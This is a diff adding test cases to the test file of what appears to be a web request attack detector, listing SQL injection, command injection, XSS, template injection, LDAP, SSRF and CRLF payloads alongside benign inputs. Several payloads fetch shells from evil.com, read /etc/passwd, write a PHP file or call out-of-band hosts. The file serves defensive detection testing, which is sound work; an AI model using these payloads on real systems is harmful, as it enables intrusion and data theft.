@@ -1147,3 +1147,58 @@ t.test('a JSON body cut at maxInspectBytes: its complete members are read as JSO
   const attack = Buffer.from(JSON.stringify({ q: "' union select password from users--", pad: 'x'.repeat(20000) }))
   t.ok(detector.detect({ ...base, headers: { ...base.headers, 'content-type': 'application/json' }, body: attack }).includes('sqli'), 'an attack before the cut is still found')
 })
+
+// ---- nineteenth round (issue 22): the spent tenth part's SQL, command, script and template misses, by kind ----
+
+t.test('sqli (nineteenth round): stacked statements cut by a comment, COPY … TO PROGRAM, a statement in parentheses after a separator, constants compared, signed numbers, sub-queries in calls, MySQL names in backticks, 1.e(', async (t) => {
+  for (const p of [
+    "1'; SHOW TABLES--", "1'; UNLOCK TABLES--", "1'; COMMIT WORK--", "1'; NULLIF(1,1)--", "1'; DESCRIBE users--",
+    ";copy (SELECT '') to program 'nslookup x.oastify.com'", ";(SELECT SYS.DBMS_LDAP.INIT('x.oastify.com',80) FROM DUAL)",
+    "; SELECT 1 INTO OUTFILE '/var/www/x.php'", '1=1--', '0 > -1', 'FALSE = FALSE', 'NULL <=> 1', "1 LIKE '1%'", '1 NOT IN (1,2,3)',
+    '1 OR TRUE#', '1 OR -1=-1', '1 AND -1=-1', 'CAST((SELECT 1) AS INT)', 'CONVERT((SELECT 1),INT)',
+    "ascii(substring((select password from users limit 1,1),1,1)) = 70 or '1'='2",
+    "1.e(ascii 1.e(substring(1.e(select password from users limit 1 1.e,1 1.e) 1.e,1 1.e,1 1.e)1.e)1.e) = 70 or '1'='2",
+    '1`=`1` AND ELT(1337=1337,SLEEP(5)) AND `1`=`1', '`=`1` AND (SELECT 1337 FROM (SELECT(SLEEP(5)))YYYY) AND `1`=`1',
+  ]) t.ok(q(p).includes('sqli'), p)
+  // prose with a quote, a semicolon and a dash; a copy in parentheses; numbers in a sentence; code spans that pair
+  for (const p of [
+    '"Lord----"; but Arthur interrupted him:--', 'Copy (select all) then paste', 'I have 2 cats and 1 dog', 'version 1.2 or later',
+    'Use `ls -la` and `cat file` to see what is there, then `rm` it', 'price: 5 > 3 stars', 'Tom\'s box; note--',
+  ]) t.notOk(q(p).includes('sqli'), p)
+})
+
+t.test('rce (nineteenth round): an interpreter given its run option, a download from an out-of-band host, a redirected reader, a variable holding a program, a brace list, the field separator, a lone recon program after a pipe, remote inclusion', async (t) => {
+  for (const p of [
+    'cmd /c net user', 'cmd.exe /c net user administrator password123', 'powershell.exe -command "Get-Process"', '%COMSPEC% /c dir',
+    "node -e 'console.log(\"test\")'", "lua -e 'print(\"test\")'", 'curl -sk http://84ab8biczjsb682bxde348roefk58u.oastify.com',
+    'cat</etc/passwd', 'cat<>/etc/passwd', 'x=cat;$x /etc/passwd', '|x=cat;$x /etc/passwd', 'cat /etc/passwd #', '{wget,http://evil.com/shell.sh}',
+    ';{ls,}', '${IFS}ls${IFS}-la', 'localhost | whoami', 'include("http://evil.com/shell.txt")', 'require("http://evil.com/shell.txt")',
+    "eval(compile('import time\\ntime.sleep(20)','a','single'))",
+  ]) t.ok(q(p).includes('rce'), p)
+  for (const p of ['cmd /?', 'use curl -sk https://api.github.com to test', 'curl https://api.example.com/v1/items', '{name,email}', 'Tom | Jerry', 'x=1; y=$x + 2', 'powershell is a shell']) t.notOk(q(p).includes('rce'), p)
+  t.same(json({ scripts: { build: 'cmd /c build.bat' } }), [], "a manifest's command field")
+  const php = "<?php\nfunction load() {\n  $data = file_get_contents('https://api.example.com/feed.json');\n  return json_decode($data);\n}\nclass Feed {\n  public function get() { return load(); }\n}"
+  t.notOk(q(php).includes('rce'), "a program's own fetch by URL")
+})
+
+t.test('xss, ssti, nosqli, ldapi, scanner, ssrf, crlf (nineteenth round)', async (t) => {
+  for (const p of [
+    "eval('ale'+'rt(0)')", "Function('ale'+'rt(1)')()", "location='javascript:ale'+'rt(12)'", '[11].findIndex(alert)', '$.getScript("//ghsec.ez.pe")',
+    '<xss_test>', '"><xsstest123>', '<img src="https://c7f3k2.oast.example.net/querytoremember"/>', '<form action="http://evil.com"><input type="submit"></form>',
+    '<meta http-equiv="Content-Security-Policy" content="script-src \'self\'">', '<object data="https://victim.com"></object>',
+  ]) t.ok(q(p).includes('xss'), p)
+  for (const p of ["name = 'a' + 'b'", '<a href="https://example.org/help">help</a>', '<img src="https://cdn.example.com/a.png">', 'meta http-equiv refresh explained']) t.notOk(q(p).includes('xss'), p)
+  const tpl = "<?php\nfunction page(string $t): string {\n  return sprintf(\n    '<form action=\"https://pay.example.com/checkout\">' .\n    '<input type=\"submit\">' .\n    '</form>', $t);\n}\nclass Shop {\n  public function render() { return page('x'); }\n}"
+  t.notOk(q(tpl).includes('xss'), "a program's template writing a form")
+  for (const p of ['${“aaaa”}', '${‘a’.concat(‘b’)}', 'gk6q${“zkz”.toString().replace(“k”, “x”)}doap2']) t.ok(q(p).includes('ssti'), p)
+  t.notOk(q('He said “${price}” was too much').includes('ssti'), 'a placeholder quoted in prose')
+  t.ok(json({ $push: { roles: 'admin' } }).includes('nosqli'), '$push')
+  t.ok(json({ query: { $currentDate: { lastModified: true } } }).includes('nosqli'), '$currentDate')
+  t.ok(q('admin)(|(userAccountControl:1.2.840.113556.1.4.803:=512))', 'login').includes('ldapi'), 'an extensible match after )(|(')
+  t.ok(detector.detect({ ...base, path: '/site-backup.dump' }).includes('scanner'), 'a database dump by name')
+  t.ok(q('http://127.0.0.1.trafficpeak.stream/', 'webhook_url').includes('ssrf'), 'a loopback address as a name\'s first labels')
+  t.notOk(q('http://10.0.0.1.example.com.au/', 'q').includes('ssrf'), 'only loopback')
+  const doc = '    Args:\n        location (str): URI to provide as the Location header in the\n            response.\n'
+  t.notOk(detector.detect({ ...base, headers: { ...base.headers, 'content-type': 'application/x-www-form-urlencoded' }, body: Buffer.from(`snippet=${encodeURIComponent(doc)}`) }).includes('crlf'), "a docstring's location (str)")
+  t.ok(q('x\r\nLocation: http://evil.example/').includes('crlf'), 'a Location header still splits')
+})
